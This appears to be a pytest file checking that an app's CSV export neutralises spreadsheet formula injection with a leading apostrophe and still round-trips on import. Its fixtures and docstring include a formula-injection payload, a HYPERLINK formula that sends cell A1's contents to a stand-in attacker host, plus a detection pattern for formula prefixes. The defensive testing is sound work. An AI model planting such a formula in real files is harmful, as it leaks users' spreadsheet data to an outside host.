"""Item 6 of issue 12: CSV exports are safe to open in a spreadsheet, and still import back.

A name such as `=HYPERLINK("http://evil.example/?x="&A1,"x")` was exported as written, by HTTP
and by `tutorials export`, and a spreadsheet opening the file runs it. Now a name, description
or tags cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return, or with `'`s
followed by one of those, gets one `'` more in front (OWASP's advice), and CSV import takes
exactly that `'` off, so export -> import -> export gives the same rows and the same bytes.
`--raw-csv` / `?csv=raw` write (and read) the cells as stored.
"""

from __future__ import annotations

import csv
import io
import re

import asyncpg
import httpx
from sqlalchemy.engine import URL
from tests.security.bounds.conftest import Figures
from typer.testing import CliRunner

from tutorials.api import create_app
from tutorials.cli import app as cli_app
from tutorials.db.session import Database
from tutorials.settings import Settings
from tutorials.transfer import export_rows, import_file, import_rows

HOSTILE: list[dict[str, object]] = [
    {"name": '=HYPERLINK("http://evil.example/?x="&A1,"x")', "tags": ["-minus", "b"]},
    {"name": "+1+2", "description": "\tstarts with a tab", "tags": ["+plus"]},
    {"name": "-2+3", "description": "\r=starts with a carriage return", "tags": ["@at"]},
    {"name": "@SUM(A1:A2)", "description": "=1+1"},
    {"name": "'=already neutralised by hand", "tags": ["'=q"]},
    {"name": "''+two apostrophes", "description": "'-one"},
    {"name": "'plain apostrophe", "description": "'no formula after it", "tags": ["'x"]},
    {"name": "plain name", "url": "https://example.org/plain", "description": "a-b=c"},
]
FORMULA = re.compile(r"'*[=+\-@\t\r]")


def _safe(cell: str) -> str:
    return "'" + cell if FORMULA.match(cell) else cell


def _cells(row: dict[str, object]) -> list[str]:
    tags = row.get("tags") or []
    assert isinstance(tags, list)
    return [
        str(row["name"]),
        str(row.get("url") or ""),
        str(row.get("description") or ""),
        ";".join(str(tag) for tag in tags),
    ]


async def _stored(dsn: str) -> list[tuple[object, ...]]:
    connection = await asyncpg.connect(dsn)
    try:
        rows = await connection.fetch(
            "SELECT name, url, description, tags FROM tutorials ORDER BY tutorial_id"
        )
    finally:
        await connection.close()
    return [tuple(row) for row in rows]


async def _export(database: Database, raw_csv: bool = False) -> bytes:
    out = io.BytesIO()

    async def sink(data: bytes) -> None:
        out.write(data)

    await export_rows(database, sink, format="csv", raw_csv=raw_csv)
    return out.getvalue()


async def test_csv_export_neutralises_formulas_and_round_trips(
    database: Database, dsn: str, figures: Figures
) -> None:
    summary = await import_rows(database, HOSTILE)
    assert (summary.inserted, summary.rejected) == (len(HOSTILE), 0), summary.errors
    stored = await _stored(dsn)
    exported = await _export(database)
    records = list(csv.reader(io.StringIO(exported.decode(), newline="")))
    assert records[0] == ["name", "url", "description", "tags"]
    expected = [
        [_safe(cell) if i != 1 else cell for i, cell in enumerate(_cells(row))] for row in HOSTILE
    ]
    assert records[1:] == expected
    neutralised = sum(
        cell != original
        for row, record in zip(HOSTILE, records[1:], strict=True)
        for cell, original in zip(record, _cells(row), strict=True)
    )
    # the HTTP face sends the same bytes; ?csv=raw sends the cells as stored
    app = create_app(Settings(_env_file=None, auto_migrate=False), database)  # type: ignore[call-arg]
    transport = httpx.ASGITransport(app=app)
    async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as client:
        over_http = (await client.get("/tutorials/export")).content
        raw_over_http = (await client.get("/tutorials/export", params={"csv": "raw"})).content
    raw_records = list(csv.reader(io.StringIO(raw_over_http.decode(), newline="")))
    assert over_http == exported
    assert raw_records[1:] == [_cells(row) for row in HOSTILE]
    # export -> import into an empty table -> the same rows, and the same bytes again
    await _truncate(dsn)
    again = await import_file(database, io.BytesIO(exported), format="csv")
    assert again.inserted == len(HOSTILE)
    assert await _stored(dsn) == stored
    assert await _export(database) == exported
    # a raw export imports back with raw_csv
    await _truncate(dsn)
    await import_file(database, io.BytesIO(raw_over_http), format="csv", raw_csv=True)
    assert await _stored(dsn) == stored
    figures(rows=len(HOSTILE), cells_neutralised=neutralised, round_trip="identical")


async def _truncate(dsn: str) -> None:
    connection = await asyncpg.connect(dsn)
    try:
        await connection.execute("TRUNCATE tutorials")
    finally:
        await connection.close()


def test_tutorials_export_neutralises_formulas(database_env: URL, figures: Figures) -> None:
    runner = CliRunner()
    name = HOSTILE[0]["name"]
    added = runner.invoke(cli_app, ["add", str(name)])
    assert added.exit_code == 0, added.stderr
    safe = runner.invoke(cli_app, ["export", "--quiet"])
    raw = runner.invoke(cli_app, ["export", "--quiet", "--raw-csv"])
    assert safe.exit_code == 0 and raw.exit_code == 0
    assert list(csv.reader(io.StringIO(safe.stdout)))[1][0] == f"'{name}"
    assert list(csv.reader(io.StringIO(raw.stdout)))[1][0] == name
    figures(cli_cell=list(csv.reader(io.StringIO(safe.stdout)))[1][0][:12])
